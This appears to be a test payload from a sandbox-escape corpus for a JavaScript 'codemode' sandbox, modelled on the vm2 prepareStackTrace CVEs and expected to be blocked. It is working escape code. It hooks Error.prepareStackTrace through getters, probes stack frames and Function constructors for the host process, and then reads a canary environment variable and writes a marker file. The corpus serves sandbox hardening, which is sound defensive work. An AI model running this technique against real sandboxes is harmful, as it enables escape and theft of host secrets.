// @name    Error.prepareStackTrace and friends as getters, on Error and on Object.prototype
// @family  prepare-stack-trace
// @ref     CVE-2022-36067 / CVE-2023-29017 family (vm2)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const seen = (x) => {
  out = out || probe(x);
  if (x && typeof x === "object" && typeof x[Symbol.iterator] === "function") {
    try {
      for (const f of x) {
        out = out || probe(f);
        try { out = out || probe(f.getThis()) || probe(f.getFunction()) || probe(f.getTypeName()); } catch {}
      }
    } catch {}
  }
};
const hook = (err, frames) => { seen(err); seen(frames); return "hooked"; };
const accessor = { configurable: true, get() { seen(this); return hook; }, set(v) { seen(v); } };
Object.defineProperty(Error, "prepareStackTrace", accessor);
Object.defineProperty(Object.prototype, "prepareStackTrace", accessor);
Object.defineProperty(Error, "stackTraceLimit", { configurable: true, get() { seen(this); return 50; }, set(v) { seen(v); } });
Object.defineProperty(Error, "captureStackTrace", { configurable: true, writable: true, value(o, f) { seen(o); seen(f); } });
const errors = [];
try { await codemode.demo.echo(function () {}); } catch (e) { errors.push(e); }
try { await codemode.demo.echo({ deep: [1n] }); } catch (e) { errors.push(e); }
try { JSON.parse("["); } catch (e) { errors.push(e); }
try { await Promise.reject(new TypeError("t")); } catch (e) { errors.push(e); }
for (const e of errors) {
  try { void e.stack; seen(e); seen(Reflect.getPrototypeOf(e)); } catch {}
}
console.log(errors[0], errors[1]);
delete Object.prototype.prepareStackTrace;
return out || "blocked";
